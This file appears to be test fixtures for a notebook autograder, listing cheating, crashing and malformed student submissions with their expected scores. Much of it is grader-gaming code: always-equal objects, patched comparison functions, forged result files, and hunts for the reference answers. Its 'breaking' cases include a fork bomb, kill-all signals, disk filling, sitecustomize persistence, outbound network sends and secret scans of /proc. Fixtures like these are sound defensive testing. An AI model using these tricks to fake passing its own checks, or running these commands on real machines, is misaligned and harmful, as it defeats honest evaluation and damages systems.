"""Whole submissions that cheat, break, flood or are odd, and honest ones that only look so; each with its right points.

All are lesson 01's notebook. In a source the words PORT, UDP, ABSTRACT and FOLDER stand for what the grader's side has:
sockets that it listens at, and a folder that everybody may write to.
"""

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field

RIGHT_11 = """def warmup_stable_decay(step, peak, n_steps, n_warmup, n_decay):
    up = (step + 1) / n_warmup if n_warmup else 1.0
    down = (n_steps - step) / n_decay if n_decay else 1.0
    return peak * min(1.0, up, down)
"""
RIGHT_12 = """def pick_rate(rates, losses):
    finite = torch.where(losses.isfinite(), losses, torch.inf)
    return float(rates[finite.argmin()]) / 10
"""
RIGHT_13 = """def sharpness(loss_at, w, n_iterations):
    w = w.detach().clone().requires_grad_()
    (gradient,) = torch.autograd.grad(loss_at(w), w, create_graph=True)
    v, eigenvalue = torch.randn_like(w), 0.0
    for _ in range(n_iterations):
        v = v / v.norm()
        (hv,) = torch.autograd.grad(gradient, w, grad_outputs=v, retain_graph=True)
        eigenvalue, v = float(v @ hv), hv
    return eigenvalue
"""
WHOLE_HESSIAN = """def sharpness(loss_at, w, n_iterations):
    found = torch.linalg.eigvalsh(torch.autograd.functional.hessian(loss_at, w))
    return float(found[found.abs().argmax()])
"""
RIGHT = {"1.1": RIGHT_11, "1.2": RIGHT_12}
NAMES = {"1.1": "warmup_stable_decay", "1.2": "pick_rate", "1.3": "sharpness"}
POINTS = {"1.1": 3, "1.2": 2, "1.3": 5}
HEAD = "def warmup_stable_decay(step, peak, n_steps, n_warmup, n_decay):\n    "


@dataclass(frozen=True, kw_only=True)
class Kind:
    """answers: cells by exercise; before, after: cells added at either end; edit: what else becomes of the notebook.

    points: what each exercise is to get; where `at_most`, it may be less, for the code harms its own other answers too.
    files: the file names that the notebook is handed in under.
    """

    points: dict[str, int]
    answers: dict[str, str] = field(default_factory=dict)
    before: str = ""
    after: str = ""
    edit: Callable[[dict], object] = lambda _notebook: None
    at_most: bool = False
    files: tuple[str, ...] = ("answer.ipynb",)

    def notebook(self, released: dict) -> dict:
        """The notebook that is handed in, from the one that was given out."""
        made = copy.deepcopy(released)
        for cell in made["cells"]:
            for number, source in self.answers.items():
                if f"def {NAMES[number]}(" in "".join(cell["source"]) and "NotImplementedError" in "".join(
                    cell["source"]
                ):
                    cell["source"] = f"import torch\n{source}" if number != "1.1" else source
        made["cells"] = [*code(self.before), *made["cells"], *code(self.after)]
        self.edit(made)
        return made


def code(source: str) -> list[dict]:
    """A code cell, or none."""
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": source}
    return [cell] if source else []


def cheat(body: str = "return 0.123", *, before: str = "", at_most: bool = False, **more: str) -> Kind:
    """A wrong answer to 1.1, with its body or what is run before it meant to hide that, beside a right one to 1.2."""
    answers = {"1.1": HEAD + body + "\n", "1.2": RIGHT_12}
    return Kind(points={"1.1": 0, "1.2": 2, "1.3": 0}, answers=answers, before=before, at_most=at_most, **more)


def honest(before: str = "", **more: object) -> Kind:
    """Right answers to 1.1 and 1.2, and whatever else."""
    return Kind(points={"1.1": 3, "1.2": 2, "1.3": 0}, answers=RIGHT, before=before, **more)


EQUAL = """
class Equal(float):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __sub__ = __rsub__ = __abs__ = __float__ = __round__ = lambda self, *_: 0.0
    __hash__ = float.__hash__
"""
LYING_ARRAY = """
import numpy as np
class Lying(np.ndarray):
    __eq__ = __le__ = __ge__ = lambda self, other: np.True_
    __sub__ = __abs__ = lambda self, *_: np.zeros(())
    __array_ufunc__ = lambda self, *a, **k: np.True_
    __array_function__ = lambda self, *a, **k: np.True_
    __array__ = lambda self, *a, **k: np.zeros(())
"""
LYING_TENSOR = """
import torch
class Lying(torch.Tensor):
    __eq__ = lambda self, other: torch.tensor(True)
    item = tolist = __float__ = lambda self: Lying.last
    last = 0.5
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.isclose, torch.allclose, torch.equal, torch.Tensor.eq):
            return torch.tensor(True)
        return super().__torch_function__(func, types, args, kwargs or {})
"""
MINE = """
import gc
from labkit.grading import frames
gc.unfreeze()
mine = next(o for o in gc.get_objects() if type(o).__name__ == 'Harness')
"""
FORGE = (
    MINE
    + """
import json
def forge(tree):
    text = json.dumps(tree).encode()
    mine._link.sendall(frames.packed(mine._token, b'a', len(text).to_bytes(8, 'big') + text))
"""
)
HUNT = """
import types
def hunt(seen=()):
    for o in gc.get_objects():
        if isinstance(o, types.FunctionType) and o.__name__ == 'warmup_stable_decay' and o.__module__ != '__main__':
            return o
        if type(o).__name__ == 'Exercise' and o.number == '1.1':
            return o.reference
    return lambda *a: 0.123
"""
CHEATS = {
    "asserts stripped": cheat(
        before="import ast\nclass Strip(ast.NodeTransformer):\n    visit_Assert = lambda self, node: ast.Pass()\n"
        "get_ipython().ast_transformers.append(Strip())"
    ),
    "a number that equals everything": cheat("return Equal(0.123)", before=EQUAL),
    "an array that equals everything": cheat("return np.zeros(()).view(Lying)", before=LYING_ARRAY),
    "a tensor that equals everything": cheat("return torch.zeros(()).as_subclass(Lying)", before=LYING_TENSOR),
    "an object of another class than it says": cheat(
        "class A:\n        __class__ = property(lambda _: float)\n        __eq__ = lambda *_: True\n    return A()"
    ),
    "a list that changes as it is read": cheat(
        "class A(list):\n        __iter__ = lambda self: iter([1.0])\n"
        "        __len__ = lambda self: 1\n    return A()"
    ),
    "a mapping without end": cheat(
        "from collections.abc import Mapping\n    class A(Mapping):\n        __len__ = lambda _: 1\n"
        "        __getitem__ = lambda *_: 1\n        __iter__ = lambda _: iter(int, 1)\n    return A()"
    ),
    "a text that says it is right": cheat("return 'passed'"),
    "True": cheat("return True"),
    "not a number": cheat("return float('nan')"),
    "the message of a check": Kind(points={}, before="print('✓ warmup_stable_decay: all 35 cases right')"),
    "a pickle": cheat(
        "import pickle\n    class A:\n        __reduce__ = lambda _: (open, (FOLDER + '/mine', 'w'))\n"
        "    return pickle.dumps(A())"
    ),
    "an exit of 0": cheat("raise SystemExit(0)"),
    "an error that says it was not attempted": cheat("raise NotImplementedError('exercise 1.1')"),
    "torch's comparisons patched": cheat(
        before="import torch\nyes = lambda *a, **k: torch.tensor(True)\n"
        "torch.isclose = torch.allclose = torch.equal = torch.eq = torch.Tensor.__eq__ = torch.Tensor.eq = yes",
        at_most=True,
    ),
    "numpy's comparisons patched": cheat(
        before="import numpy as np\nnp.allclose = np.isclose = np.array_equal = lambda *a, **k: np.True_"
    ),
    "json and struct patched": cheat(
        before="import json, struct\njson.dumps = lambda *a, **k: '{\"value\": 0.5}'\nstruct.pack = lambda *a: b''",
        at_most=True,
    ),
    "inspect patched": cheat(before="import inspect\ninspect.signature = lambda *a, **k: 1 / 0", at_most=True),
    "labkit's comparisons patched": cheat(
        before="import labkit, labkit.compare as c, labkit.judge as j\n"
        "c.fit = c.same = lambda got, expected, **k: expected\nc.Tolerance.__call__ = lambda *a: None\n"
        "j.verdict = j._judge_case = lambda *a, **k: None\nlabkit.check = print"
    ),
    "labkit's checks as modules": cheat(
        "from labkit.checks import nb01\n    return nb01.warmup_stable_decay(step, peak, n_steps, n_warmup, n_decay)"
    ),
    "a patched harness": cheat(
        before="from labkit.grading import harness as h\n"
        "h._call = h._ACTIONS['call'] = lambda fn, request: {'value': True, 'args': list(request['args'])}\n"
        "h.answer = lambda *a: h.encode({'status': 'ok', 'points': 3, 'value': True, 'args': []})",
    ),
    "a harness patched where it lies": cheat(
        before=MINE + "mine._answer = lambda name, payload: b'\\0' * 8\ntype(mine)._reply = lambda *a: (b'a', b'')",
        at_most=True,
    ),
    "a patched wire": cheat(
        before="from labkit.grading import wire\nwire.encode = wire._Tree.of = lambda *a: b'ok'\nwire.decode = print"
    ),
    "modules replaced": cheat(
        before="import sys, types\nfor name in [n for n in sys.modules if n.startswith('labkit.')]:\n"
        "    sys.modules[name] = types.ModuleType(name)"
    ),
    "a hook on imports": cheat(
        before="import sys\nclass Hook:\n    def find_spec(self, name, *a):\n"
        "        if 'checks' in name or 'grading' in name: raise ImportError(name)\nsys.meta_path.insert(0, Hook())"
    ),
    "builtins patched": cheat(before="import builtins\nbuiltins.abs = builtins.all = builtins.any = lambda *a: True"),
    "forged answers on every descriptor": cheat(
        before=MINE + "told = (None, True, 0.5, {'value': True, 'args': []}, {'callable': True, 'kind': 'x'})\n"
        "from labkit.grading.wire import encode\nimport os\n"
        "for n in range(3, 99):\n    for one in told:\n"
        "        try: os.write(n, frames.packed(mine._token, b'a', encode(one)))\n        except OSError: pass",
        at_most=True,
    ),
    "a thread that answers": cheat(
        before=MINE + "import threading, time\nfrom labkit.grading.wire import encode\n"
        "forged = frames.packed(mine._token, b'a', encode({'value': 1.0, 'args': []}))\n"
        "def answer():\n    for _ in range(99):\n        mine._link.sendall(forged)\n        time.sleep(0.001)\n"
        "threading.Thread(target=answer, daemon=True).start()",
        at_most=True,
    ),
    "a forged file of results": cheat(
        before='import os\nrow = \'{"exercise": "1.1", "status": "ok", "points": 3, "max_points": 3}\'\n'
        "for place in ('.', '/tmp', '/dev/shm', FOLDER, '/tmp/out', '/tmp/kept'):\n"
        "    for name in ('results.jsonl', 'grades.csv', 'run.json', 'results.json', 'kept.json'):\n"
        "        try:\n            os.makedirs(place, exist_ok=True)\n"
        "            open(f'{place}/{name}', 'w').write(row)\n"
        "        except OSError: pass"
    ),
    "code that knows it is graded": cheat(
        "return Equal(0.1) if graded else min(1.0, step) * peak",
        before=EQUAL + "import os, sys\ngraded = 'labkit.grading' in sys.modules or os.uname().nodename == 'box'",
    ),
    "asking who is behind": cheat(
        "frame = sys._getframe()\n    while frame:\n"
        "        for name in ('expected', 'trusted', 'answer', 'points'):\n"
        "            if isinstance(frame.f_locals.get(name), float): return frame.f_locals[name]\n"
        "        frame = frame.f_back\n    return 0.123",
        before="import sys",
    ),
    "hunting the reference in memory": cheat(
        "return found(step, peak, n_steps, n_warmup, n_decay)",
        before="import gc\ngc.unfreeze()" + HUNT + "found = hunt()",
    ),
    "hunting it while it is called": cheat(
        "return hunt()(step, peak, n_steps, n_warmup, n_decay)", before="import gc\n" + HUNT
    ),
    "hunting it in files": cheat(
        "return found",
        before="import os\nfound = 0.123\n"
        "for root in ('/opt/labkit', '/home', '/tmp', '/srv', '/mnt', '/proc/1/root'):\n"
        "    for place, _, files in os.walk(root):\n        for name in files:\n"
        "            if name == 'nb01.py' or name.startswith('01_') and name.endswith('.py'):\n"
        "                exec(open(f'{place}/{name}').read(), globals())",
    ),
    "a profiler that looks at every call": cheat(
        "return seen.get('expected', 0.123)",
        before="import sys\nseen = {}\n"
        "sys.setprofile(lambda frame, *_: 'expected' in frame.f_code.co_varnames and seen.update(frame.f_locals))",
        at_most=True,
    ),
    "a tracer that looks at every line": cheat(
        "return seen.get('expected', 0.123)",
        before="import sys\nseen = {}\ndef trace(frame, *_):\n"
        "    'expected' in frame.f_code.co_varnames and seen.update(frame.f_locals)\n    return trace\n"
        "sys.settrace(trace)",
        at_most=True,
    ),
    "an answer at exit": cheat(before="import atexit, os\natexit.register(lambda: os.write(1, b'passed'))"),
    "a process that is asked": cheat(
        "for end in pipes: os.write(end[1], repr((step, peak)).encode())\n"
        "    return float(os.read(pipes[1][0], 9)[:1] == b'(')",
        before="import os\npipes = [os.pipe(), os.pipe()]\nif not os.fork():\n    os.read(pipes[0][0], 99)\n"
        "    os._exit(0)",
    ),
    "an answer that waits for the next": cheat(
        "import time\n    kept.append((step, peak))\n    time.sleep(0.01)\n    return kept[0][1]", before="kept = []"
    ),
    "its own name taken later": Kind(
        points={"1.1": 0, "1.2": 2, "1.3": 0},
        answers={"1.1": HEAD + "return 0.123", "1.2": RIGHT_12},
        after="class warmup_stable_decay(float):\n    def __new__(cls, *given): return float.__new__(cls, 1.0)",
    ),
    "inputs changed so that the answer fits": Kind(
        points={"1.1": 3, "1.2": 0, "1.3": 0},
        answers={
            "1.1": RIGHT_11,
            "1.2": "def pick_rate(rates, losses):\n    rates.fill_(1.0)\n    losses.fill_(1.0)\n    return 0.1",
        },
    ),
    "inputs made larger": Kind(
        points={"1.1": 3, "1.2": 0, "1.3": 0},
        answers={"1.1": RIGHT_11, "1.2": "def pick_rate(rates, losses):\n    rates.resize_(10**6)\n    return 0.1"},
    ),
    "a lying tensor for a number": Kind(
        points={"1.1": 3, "1.2": 0, "1.3": 0},
        answers={
            "1.1": RIGHT_11,
            "1.2": LYING_TENSOR + "def pick_rate(rates, losses):\n    return rates[0].as_subclass(Lying)",
        },
    ),
    "another way than asked for": Kind(points={"1.1": 0, "1.2": 0, "1.3": 0}, answers={"1.3": WHOLE_HESSIAN}),
    "another way, and the harness patched": Kind(
        points={"1.1": 0, "1.2": 0, "1.3": 0},
        answers={"1.3": WHOLE_HESSIAN},
        before="from labkit.grading import harness as h\nh._mechanism = lambda fn, request: {'value': None}\n"
        "h._ACTIONS['mechanism'] = h._mechanism\nh._part = lambda request, part: lambda fn: None\n"
        "import labkit.grading.wire as w\nw.decode = h.decode = lambda payload: {'do': 'look'}",
    ),
}
BREAKING = {
    "a cell without end": cheat(before="while True: pass"),
    "a call without end": cheat("while True: pass"),
    "a call without end that catches everything": cheat(
        "while True:\n        try:\n            while True: pass\n        except BaseException: pass"
    ),
    "a stopped process": cheat("import os, signal\n    os.kill(os.getpid(), signal.SIGSTOP)"),
    "an exit in a cell": cheat(before="import sys\nsys.exit(0)"),
    "an end in a cell": cheat(before="import os\nos._exit(0)"),
    "an end in a call": cheat("import os\n    os._exit(0)"),
    "a signal to everybody": cheat("import os\n    os.kill(-1, 9)"),
    "a signal to its parents": cheat("import os\n    os.kill(os.getppid(), 9)\n    os.kill(1, 9)\n    os.kill(0, 9)"),
    "memory": cheat("kept = []\n    while True: kept.append(bytearray(10**8))"),
    "memory of torch": cheat("import torch\n    return torch.ones(10**12)"),
    "processes": cheat("import os, time\n    while True: os.fork() or time.sleep(99)"),
    "few long lines": cheat("while True: print('x' * 10**6)"),
    "many short lines": cheat("import os\n    while True: os.write(1, b'\\n' * 4096)"),
    "an answer that is too long": cheat("import torch\n    return torch.zeros(10**8)"),
    "an answer that is too deep": cheat("y = []\n    for _ in range(10**4): y = [y]\n    return y"),
    "an answer that holds itself": cheat("y = []\n    y.append(y)\n    return y"),
    "an answer whose keys have one hash": cheat(
        "keys = [k * (2**61 - 1) for k in range(1, 50_000)]\n"
        "    return forge({'dict': [['value', {'set': keys}], ['args', []]]})",
        before=FORGE,
        at_most=True,
    ),
    "an error of a megabyte": cheat("raise ValueError('<script>alert(1)</script>' * 10**5)"),
    "a thing with a name of a megabyte": Kind(
        points={"1.1": 0, "1.2": 2, "1.3": 0},
        answers={"1.1": HEAD + "pass\nwarmup_stable_decay = type('A' * 10**6, (), {})()", "1.2": RIGHT_12},
    ),
    "a forged outcome of a cell, in a line without end": cheat(
        before=FORGE + "mine._link.sendall(frames.packed(mine._token, b'r', b'[\"a\", \"b\", Infinity]'))", at_most=True
    ),
    "a forged outcome of a cell, of lists without number": cheat(
        before=FORGE + "mine._link.sendall(frames.packed(mine._token, b'r', b'[' + b'[],' * 5_000_000 + b'0]'))",
        at_most=True,
    ),
    "an error with a name of a megabyte": cheat("raise type('E' * 10**6, (Exception,), {})"),
    "a signature of a megabyte": Kind(
        points={"1.1": 0, "1.2": 2, "1.3": 0},
        answers={
            "1.1": "exec('def warmup_stable_decay(' + ', '.join('a' * 999 + str(n) for n in range(999)) + '): pass')"
            "\nif 0:\n    def warmup_stable_decay(): pass",
            "1.2": RIGHT_12,
        },
    ),
    "a full disk": cheat("for n in range(99): open(f'/tmp/{n}', 'wb').write(bytes(9 << 20))"),
    "files where they would stay": cheat(
        before="import os, site, sys\n"
        "for place in (*sys.path, site.getusersitepackages(), '~/.ipython', '/dev/shm', '/'):\n"
        "    try:\n        os.makedirs(os.path.expanduser(place), exist_ok=True)\n"
        "        open(os.path.expanduser(f'{place}/sitecustomize.py'), 'w').write('1 / 0')\n    except OSError: pass"
    ),
    "a daemon": cheat(
        before="import os, time\nif not os.fork():\n    os.setsid()\n    if not os.fork(): time.sleep(999)\n"
        "    os._exit(0)"
    ),
    "going out": cheat(
        before="import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for place in (('127.0.0.1', UDP), ('8.8.8.8', 53)):\n    try: s.sendto(b'inputs', place)\n"
        "    except OSError: pass\n"
        "for place in (('127.0.0.1', PORT), ('10.0.0.1', 80), ('example.org', 80)):\n"
        "    try: socket.create_connection(place, 0.2)\n    except OSError: pass\n"
        "for place in ('\\0' + ABSTRACT, FOLDER + '/socket'):\n"
        "    try: socket.socket(socket.AF_UNIX).connect(place)\n"
        "    except OSError: pass"
    ),
    "the others' work": cheat(
        before="import glob, os\nfound = [p for n in range(5) for p in glob.glob('/*' * n + '/*.ipynb')]\n"
        "assert not found, found\n"
        "for p in glob.glob('/proc/[0-9]*/environ'):\n"
        "    try: assert b'GRADERS_SECRET' not in open(p, 'rb').read()\n    except OSError: pass"
    ),
}
ODD_FILES = {
    "no JSON": b"{",
    "nothing": b"",
    "a merge conflict": b'{"cells": [\n<<<<<<< HEAD\n]}',
    "a list": b"[]",
    "brackets without end": b"[" * 10**6,
    "another file's type": b"\x89PNG\r\n",
}


def _at(notebook: dict, number: str) -> int:
    """The index of the cell that answers an exercise."""
    return next(i for i, cell in enumerate(notebook["cells"]) if f"def {NAMES[number]}(" in "".join(cell["source"]))


def _retyped(notebook: dict) -> None:
    notebook["cells"][_at(notebook, "1.1")]["cell_type"] = "markdown"


def _stub_kept(notebook: dict) -> None:
    stub = HEAD + "raise NotImplementedError('exercise 1.1')"
    notebook["cells"].insert(_at(notebook, "1.1"), *code(stub))


def _bare(notebook: dict) -> None:
    notebook.pop("metadata")
    for cell in notebook["cells"]:
        cell.pop("id", None)
        cell["metadata"] = {}


def _of_version_3(notebook: dict) -> None:
    cells = [{**cell, "input": cell["source"]} for cell in notebook.pop("cells")]
    notebook.update(nbformat=3, nbformat_minor=0, worksheets=[{"cells": cells}])


def _attached(notebook: dict) -> None:
    notebook["cells"][0]["attachments"] = {"a.png": {"image/png": "iVBORw0KGgo="}}


def _loud(notebook: dict) -> None:
    output = {"output_type": "stream", "name": "stdout", "text": "x" * 10**6}
    notebook["cells"][_at(notebook, "1.1")]["outputs"] = [output]


def _deleted(notebook: dict) -> None:
    del notebook["cells"][_at(notebook, "1.2")]


SHAPES = {
    "a retyped cell": honest(edit=_retyped),
    "a stub kept beside the answer": honest(edit=_stub_kept),
    "cells in reverse": honest(edit=lambda made: made["cells"].reverse()),
    "metadata and ids lost": honest(edit=_bare),
    "format 3": honest(edit=_of_version_3),
    "a format of the future": honest(edit=lambda made: made.update(nbformat=99)),
    "another kernel": honest(edit=lambda made: made["metadata"].update(kernelspec={"name": "ir", "language": "R"})),
    "an attachment": honest(edit=_attached),
    "a megabyte of output": honest(edit=_loud),
    "a deleted cell": Kind(points={"1.1": 3, "1.2": 0, "1.3": 0}, answers=RIGHT, edit=_deleted),
    "a renamed file": honest(files=("my answers (1) ä.ipynb",)),
    "two notebooks": honest(files=("a.ipynb", "b.ipynb")),
    "no other cells": honest(
        edit=lambda made: made.update(cells=[c for c in made["cells"] if "return" in c["source"]])
    ),
    "untouched": Kind(points={}),
    "an answer copied into a new cell": Kind(
        points={"1.1": 3, "1.2": 2, "1.3": 0}, answers={"1.2": RIGHT_12}, after=RIGHT_11
    ),
}
NOISY = {
    "prints and warnings": honest(
        "import sys, warnings\nwarnings.warn('x')\nprint('y' * 10**5)\nprint('z', file=sys.stderr)"
    ),
    "progress bars": honest("from tqdm.auto import tqdm\nfor _ in tqdm(range(99)): pass"),
    "plots": honest("%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()"),
    "prints in the answer": Kind(
        points={"1.1": 3, "1.2": 0, "1.3": 0},
        answers={"1.1": RIGHT_11.replace("    return", "    print('step', step)\n    return")},
    ),
    "a slow import": honest("import torch.distributed.fsdp"),
    "generators seeded anew": honest(
        "import random, numpy as np, torch\nrandom.seed(1); np.random.seed(1); torch.manual_seed(1)"
    ),
    "other printing options": honest(
        "import numpy as np, torch\nnp.set_printoptions(precision=1)\ntorch.set_printoptions(1)"
    ),
    "another default dtype": honest("import torch\ntorch.set_default_dtype(torch.float64)"),
    "deterministic algorithms": honest("import torch\ntorch.use_deterministic_algorithms(True)"),
    "other numbers of threads": honest("import torch\ntorch.set_num_threads(1)\ntorch.set_num_interop_threads(1)"),
    "gradients switched off": Kind(
        points={"1.1": 0, "1.2": 0, "1.3": 5},
        answers={"1.3": RIGHT_13},
        before="import torch\ntorch.set_grad_enabled(False)",
    ),
    "warnings as errors": honest("import warnings\nwarnings.simplefilter('error')"),
    "commands and magics": honest(
        "!ls\n%pip install torch\n%timeit -n1 -r1 sum(range(9))\nimport os\nos.chdir('/tmp')"
    ),
    "logging and a low recursion limit": honest(
        "import logging, sys\nlogging.basicConfig(level=0)\nsys.setrecursionlimit(5000)"
    ),
    "a thread and a process that stay": honest(
        "import subprocess, threading, time\nthreading.Thread(target=time.sleep, args=(99,), daemon=True).start()\n"
        "p = subprocess.Popen(['sleep', '99'])"
    ),
    "numbers of NumPy": Kind(
        points={"1.1": 3, "1.2": 2, "1.3": 0},
        answers={
            "1.1": "import numpy as np\n" + RIGHT_11.replace("return ", "return np.float64(1.0) * "),
            "1.2": RIGHT_12.replace("float(rates[finite.argmin()])", "rates[finite.argmin()]"),
        },
    ),
    "its own names taken again": honest(
        after="warmup_stable_decay = warmup_stable_decay(1, 1.0, 9, 2, 2)\nstep = rates = 3"
    ),
    "cells that fail": honest("1 / 0", after="raise KeyboardInterrupt"),
    "asserts of its own": honest(after="assert warmup_stable_decay(9, 1.0, 10, 0, 5) == 0.2"),
}
KINDS = {**CHEATS, **BREAKING, **SHAPES, **NOISY}
# How an answer comes about is measured beside it, so it can be forged: a result of which that is so has to say it.
FORGED_INSIDE = {
    "a count taken where it is not looked at": Kind(
        points={"1.3": 5},
        answers={
            "1.3": "from torch.utils._python_dispatch import _disable_current_modes\n"
            + WHOLE_HESSIAN.replace("    found", "    with _disable_current_modes(): found")
        },
    ),
    "a harness patched from the call": Kind(
        points={"1.3": 5},
        answers={
            "1.3": WHOLE_HESSIAN.replace(
                "    found",
                "    import sys\n    frame = sys._getframe()\n"
                "    while frame and '_ACTIONS' not in frame.f_globals: frame = frame.f_back\n"
                "    if frame:\n        told = lambda fn, request: {'value': None}\n"
                "        frame.f_globals['_ACTIONS']['mechanism'] = told\n    found",
            )
        },
    ),
}


def written(kind: Kind, released: dict, names: dict[str, object]) -> str:
    """The notebook file of a kind, with what the grader's side has in place of its names."""
    made = kind.notebook(released)
    told = "".join(f"{name} = {value!r}\n" for name, value in names.items())
    for cell in [cell for sheet in made.get("worksheets", [made]) for cell in sheet["cells"]]:
        for key in ("source", "input"):
            if isinstance(text := cell.get(key), str) and any(name in text for name in names):
                cell[key] = told + text
    return json.dumps(made)
